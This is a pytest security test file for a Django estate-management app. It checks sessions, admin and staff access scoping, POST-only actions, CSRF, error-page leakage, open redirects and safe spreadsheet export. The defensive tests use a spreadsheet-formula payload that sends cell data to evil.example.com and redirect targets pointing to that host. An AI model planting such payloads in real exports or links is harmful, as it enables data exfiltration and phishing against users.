"""The project's own security: deploy settings, sessions, the admin, staff accounts, and
the POST-only actions."""

import pytest
from django.conf import settings
from django.urls import reverse
from django.utils import timezone

from desk import roles
from desk.models import User
from tests.factories import UserFactory


def test_a_session_ends_with_the_browser_and_after_a_shift_at_the_latest(client, front_desk):
    response = client.post(reverse("login"), {"username": "frontdesk", "password": "desk-pass-123"})
    cookie = response.cookies[settings.SESSION_COOKIE_NAME]
    assert (cookie["expires"], cookie["max-age"]) == ("", "")  # a browser-session cookie
    left = client.session.get_expiry_date() - timezone.now()
    assert 11.9 * 3600 < left.total_seconds() <= 12 * 3600


def test_an_expired_session_goes_back_to_the_login_page(client, front_desk, settings):
    client.force_login(front_desk)
    session = client.session
    session.set_expiry(-1)
    session.save()
    response = client.get(reverse("home"))
    assert response.status_code == 302 and response["Location"].startswith(reverse("login"))


def test_the_admin_is_for_superusers_only(client_for, manager, db):
    manager.is_staff = True  # given by mistake: still no admin, which is unscoped
    manager.save(update_fields=["is_staff"])
    response = client_for(manager).get(reverse("admin:tenants_resident_changelist"))
    assert response.status_code == 302 and "/admin/login/" in response["Location"]
    superuser = User.objects.create_superuser("root", "root@example.com", "x-very-long-pw-1")
    page = client_for(superuser).get(reverse("admin:tenants_resident_changelist"))
    assert page.status_code == 200


def test_a_manager_cannot_see_or_edit_a_superuser_of_their_estate(client_for, manager, estate):
    superuser = User.objects.create_superuser("root", "root@example.com", "x-very-long-pw-1")
    estate.staff.add(superuser)
    client = client_for(manager)
    assert superuser not in client.get(reverse("staff_list")).context["staff"]
    response = client.post(
        reverse("staff_edit", args=[superuser.pk]),
        {"username": "root", "roles": ["manager"], "estates": [estate.pk], "password": "Zz9-pw!"},
    )
    assert response.status_code == 404
    superuser.refresh_from_db()
    assert superuser.check_password("x-very-long-pw-1")


def _staff_post(user, estate, **changes):
    data = {
        "username": user.username,
        "name": user.get_full_name() or user.username,
        "roles": [g.name for g in user.groups.all()],
        "estates": [estate.pk],
        "is_active": "on",
        "password": "",
    }
    return {**data, **changes}


def test_a_manager_cannot_set_the_password_of_staff_of_other_estates(
    client_for, manager, estate, other_estate
):
    """Else they could log in as them, into an estate they do not run."""
    shared = UserFactory(username="shared", roles=[roles.MANAGER], estates=[estate, other_estate])
    response = client_for(manager).post(
        reverse("staff_edit", args=[shared.pk]),
        _staff_post(shared, estate, password="Zz9-taken-over!"),
    )
    assert response.status_code == 200
    assert "also works in estates you do not run" in response.content.decode()
    shared.refresh_from_db()
    assert shared.check_password("desk-pass-123")


def test_a_manager_sets_the_password_of_their_own_staff(client_for, manager, front_desk, estate):
    response = client_for(manager).post(
        reverse("staff_edit", args=[front_desk.pk]),
        _staff_post(front_desk, estate, password="Zz9-new-password!"),
    )
    assert response.status_code == 302
    front_desk.refresh_from_db()
    assert front_desk.check_password("Zz9-new-password!")


@pytest.mark.parametrize("password", ["12345678", "password", "frontdesk1", "Ab1!"])
def test_a_weak_password_is_refused_with_a_message(
    client_for, manager, front_desk, estate, password
):
    response = client_for(manager).post(
        reverse("staff_edit", args=[front_desk.pk]),
        _staff_post(front_desk, estate, password=password),
    )
    assert response.status_code == 200
    assert response.context["form"].errors["password"]
    front_desk.refresh_from_db()
    assert front_desk.check_password("desk-pass-123")


# Every action that changes something without a form page: a GET changes nothing.
POST_ONLY = [
    ("logout", lambda w: []),
    ("estate_settings_save", lambda w: [w["estate"].pk, "complaints"]),
    ("tenants:reveal_contact", lambda w: [w["resident"].pk]),
    ("tenants:import_commit", lambda w: []),
    ("inbox_read_all", lambda w: []),
    ("workorders:start", lambda w: [w["order"].pk]),
    ("workorders:close", lambda w: [w["order"].pk]),
]


@pytest.mark.parametrize("url_name, args", POST_ONLY, ids=[name for name, _ in POST_ONLY])
def test_a_post_only_action_refuses_get(client_for, manager, unit, resident, url_name, args):
    from tests.factories import WorkOrderFactory

    world = {"estate": unit.estate, "resident": resident, "order": WorkOrderFactory(unit=unit)}
    response = client_for(manager).get(reverse(url_name, args=args(world)))
    assert response.status_code == 405
    assert "POST" in response["Allow"] and "GET" not in response["Allow"]


def test_csrf_is_checked(front_desk, unit):
    from django.test import Client

    client = Client(enforce_csrf_checks=True)
    client.force_login(front_desk)
    response = client.post(
        reverse("workorders:create"),
        {"source": "repair_call", "unit_label": "3-1502", "trade": "plumbing", "description": "x"},
    )
    assert response.status_code == 403
    from workorders.models import WorkOrder

    assert not WorkOrder.objects.exists()


def test_error_pages_tell_nothing_about_the_server(client_for, front_desk, monkeypatch):
    client = client_for(front_desk)
    missing = client.get("/no-such-page/")
    assert missing.status_code == 404

    def broken(*args, **kwargs):
        raise RuntimeError("password=hunter2 at /srv/desk/desk/views.py")

    monkeypatch.setattr("desk.views.user_roles", broken)
    client.raise_request_exception = False
    failed = client.get(reverse("home"))
    assert failed.status_code == 500
    for response in (missing, failed):
        html = response.content.decode()
        assert "hunter2" not in html and "Traceback" not in html and "/srv/" not in html
        assert "SECRET_KEY" not in html and "DATABASES" not in html


def test_exported_text_is_never_a_formula(client_for, manager, occupancy):
    """A name typed as `=HYPERLINK(...)` (at the desk, or in an imported register) is text
    in the manager's workbook, not a live link or a calculation."""
    from io import BytesIO

    from openpyxl import load_workbook

    resident = occupancy.resident
    resident.name = '=HYPERLINK("http://evil.example.com/?"&A2,"Open")'
    resident.save(update_fields=["name"])
    response = client_for(manager).get(reverse("tenants:tenant_list_export"))
    sheet = load_workbook(BytesIO(b"".join(response.streaming_content))).worksheets[0]
    header = [cell.value for cell in sheet[1]]
    name = sheet[2][header.index("Name")]
    assert (name.value, name.data_type) == (resident.name, "s")


@pytest.mark.parametrize("target", ["https://evil.example.com/", "//evil.example.com/x"])
def test_logging_in_or_switching_language_never_leads_off_the_site(client, front_desk, target):
    response = client.post(
        reverse("login"), {"username": "frontdesk", "password": "desk-pass-123", "next": target}
    )
    assert response["Location"] == reverse("home")
    response = client.post(reverse("set_language"), {"language": "zh-hans", "next": target})
    assert response["Location"] == "/"


def test_uploaded_workbooks_are_parsed_with_defusedxml():
    """openpyxl reads an upload's XML through defusedxml when it is installed (pyproject)."""
    import openpyxl.xml

    assert openpyxl.xml.DEFUSEDXML is True


def test_error_pages_speak_the_users_language(client_for, front_desk, monkeypatch):
    client = client_for(front_desk)
    missing = client.get("/no-such-page/", headers={"accept-language": "zh-hans"})
    assert missing.status_code == 404
    assert "页面不存在" in missing.content.decode()

    forbidden = client.get(reverse("staff_list"), headers={"accept-language": "en"})
    assert forbidden.status_code == 403
    assert "Your role does not allow this." in forbidden.content.decode()


def test_an_expired_form_says_so_and_saves_nothing(front_desk, unit):
    from django.test import Client

    from workorders.models import WorkOrder

    client = Client(enforce_csrf_checks=True)
    client.force_login(front_desk)
    response = client.post(reverse("workorders:create"), {"unit_label": "3-1502"})
    assert response.status_code == 403
    assert "The form has expired" in response.content.decode()
    assert not WorkOrder.objects.exists()
